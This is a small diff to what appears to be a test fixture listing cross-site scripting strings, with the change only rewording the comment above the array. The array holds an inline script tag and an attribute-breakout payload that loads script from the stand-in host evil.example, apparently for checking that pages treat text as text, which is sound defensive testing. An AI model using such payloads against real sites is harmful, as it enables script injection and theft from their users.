@@ -1,4 +1,4 @@
-/** Texts that would do something where a page took them for more than text; each would call `hit`. */
+/** Texts that would run script if a page interpreted them as markup; each would call `hit`. */
 export const hostileTexts = [
   '<script>hit()</script>',
   '"><script src="https://evil.example/x.js"></script>',
